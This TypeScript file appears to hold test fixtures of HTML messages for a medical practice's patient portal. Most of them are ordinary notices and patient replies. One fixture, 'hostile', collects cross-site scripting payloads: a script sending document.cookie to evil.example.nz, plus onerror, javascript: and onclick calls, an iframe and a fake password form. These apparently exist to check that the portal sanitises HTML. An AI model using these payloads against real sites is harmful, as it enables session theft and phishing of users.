/** The messages of practices and patients, as HTML. */
export type Topic = { subject: string; html: string }

/** Latest first; each practice's messages begin here. */
export const fromPractice: readonly Topic[] = [
  {
    subject: 'Your blood results',
    html: '<p>Kia ora,</p><p>your cholesterol is <strong>a little high</strong>, everything else is fine. Please keep taking your tablets and repeat the test in three months.</p>',
  },
  {
    subject: 'Flu vaccinations have started',
    html: '<p>You can have your flu vaccination on any weekday, without an appointment. More at https://www.example.nz/flu or <a href="mailto:nurse@example.nz">from our nurse</a>.</p>',
  },
  {
    subject: 'Your repeat prescription',
    html: '<p>Your prescription has been sent to your pharmacy.</p><ul><li>Take it with food.</li><li>Tell us if you feel dizzy.</li></ul>',
  },
  {
    subject: 'Time for a blood pressure check',
    html: '<p>It has been a year since your last check. <em>Ten minutes</em> with our nurse will do.</p>',
  },
  { subject: 'Your referral', html: '<p>We have referred you to the eye clinic. They will write to you with a date.</p>' },
  {
    subject: 'New opening hours',
    html: '<p>From next month we open earlier:</p><ol><li>Monday to Friday from 8:00</li><li>Saturday from 9:00</li></ol>',
  },
  { subject: 'About your last visit', html: '<p>How is the cough?</p><p>If it is not better by Friday, please book an appointment.</p>' },
  { subject: 'Your X-ray', html: '<p>The X-ray shows nothing to worry about.</p><hr><p>There is no need to come in.</p>' },
  { subject: 'Your care plan', html: '<p>Here is what we agreed on: a walk each day, less salt, and a check in six months.</p>' },
  { subject: 'Skin check', html: '<p>The mole on your shoulder is harmless. Have a look at it yourself every few months.</p>' },
]

export const fromPatients: readonly Topic[] = [
  { subject: 'A question about my tablets', html: '<p>Hello,</p><p>may I take them in the evening instead?</p>' },
  { subject: 'Re: About your last visit', html: '<p>The cough is gone, thank you.</p><hr><p>How is the cough?</p>' },
  { subject: 'My readings', html: '<p>Here are this week’s:</p><ul><li>Monday 138/84</li><li>Thursday 132/80</li></ul>' },
  { subject: 'Travel vaccinations', html: '<p>I am going to Samoa in July. Which vaccinations do I need?</p>' },
]

export const maintenance: Topic = {
  subject: 'Planned maintenance',
  html: '<p>Messages and bookings may be slow on Sunday between 2:00 and 4:00.</p>',
}

export const withFiles: Topic = {
  subject: 'Your letter and pictures',
  html: '<p>Attached are the letter to the specialist and the pictures of your skin.</p>',
}

/** A message with a script, which the portal must not execute. */
export const hostile: Topic = {
  subject: 'Please confirm your details',
  html: `<p>Please read this.</p><script>document.body.textContent = 'opened'; fetch('https://evil.example.nz/' + document.cookie)</script>
<img src="x" onerror="fetch('https://evil.example.nz/image')" alt=""><a href="javascript:fetch('https://evil.example.nz/link')">More</a>
<iframe src="https://evil.example.nz/frame"></iframe><form action="https://evil.example.nz/form"><input name="password"><button>Sign in again</button></form>
<p style="position:fixed;inset:0" onclick="fetch('https://evil.example.nz/click')">Nothing here may run.</p>`,
}

export const draftTopics: Topic = { subject: 'My knee', html: '<p>It still hurts when I climb stairs, and</p>' }
